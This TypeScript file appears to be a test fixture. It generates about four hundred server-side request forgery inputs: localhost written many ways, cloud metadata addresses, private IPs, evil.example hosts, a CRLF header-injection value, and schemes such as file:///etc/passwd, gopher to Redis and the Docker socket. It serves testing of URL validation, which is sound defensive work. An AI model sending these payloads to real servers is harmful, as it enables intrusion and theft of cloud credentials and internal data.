/** The ways in which one address of a machine can be written. */
const spellings = (port: number) =>
  [
    '127.0.0.1',
    'localhost',
    'localhost.',
    '127.1',
    '0',
    '0.0.0.0',
    '0x7f000001',
    '0x7f.1',
    '2130706433',
    '017700000001',
    '0177.0.0.1',
    '127.000.000.001',
    '①②⑦.⓪.⓪.①',
    '127。0。0。1',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '[0:0:0:0:0:ffff:7f00:1]',
    'api.prolific.com@127.0.0.1',
    'api.prolific.com:443@127.0.0.1',
    'api.prolific.com%40127.0.0.1',
    '127.0.0.1#@api.prolific.com',
    '127.0.0.1?@api.prolific.com',
    '127.0.0.1\\@api.prolific.com',
  ].map((host) => host.replace(/^([^#?\\]*)/, `$1:${port}`))

/** Names of other machines that must not be asked, whether they exist or not. */
const others = [
  '169.254.169.254',
  '[fd00:ec2::254]',
  'metadata.google.internal',
  '100.100.100.200',
  '10.0.0.1',
  '192.168.0.1',
  'evil.example',
  'xn--evl-epa.example',
  'api.prolific.com.evil.example',
  '127.0.0.1.nip.io',
]

const prefixes = [
  'http://',
  'https://',
  'HtTp://',
  'http:',
  'http:/',
  'http:///',
  'http:\\\\',
  '//',
  '///',
  '\\\\',
  '/\\',
  '\\/',
  '@',
  '.',
  ':@',
  '%2f%2f',
  '%5c%5c',
  '%0d%0aHost:%20',
  '%09//',
]

const schemes = [
  'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_INFO',
  'dict://127.0.0.1:11211/stat',
  'ftp://127.0.0.1/',
  'ldap://127.0.0.1/',
  'tftp://127.0.0.1/x',
  'jar:http://127.0.0.1!/',
  'data:text/html,x',
  'javascript:alert(1)',
  'blob:http://127.0.0.1/x',
  'unix:/var/run/docker.sock',
  'about:blank',
]

/** Some four hundred texts that make a careless server ask somebody else, `port` of this machine for one. */
export const waysOut = (port: number) => [
  ...prefixes.flatMap((prefix) =>
    [...spellings(port), ...others].map((host) => `${prefix}${host}/api/v1/users/me/`),
  ),
  ...schemes,
]
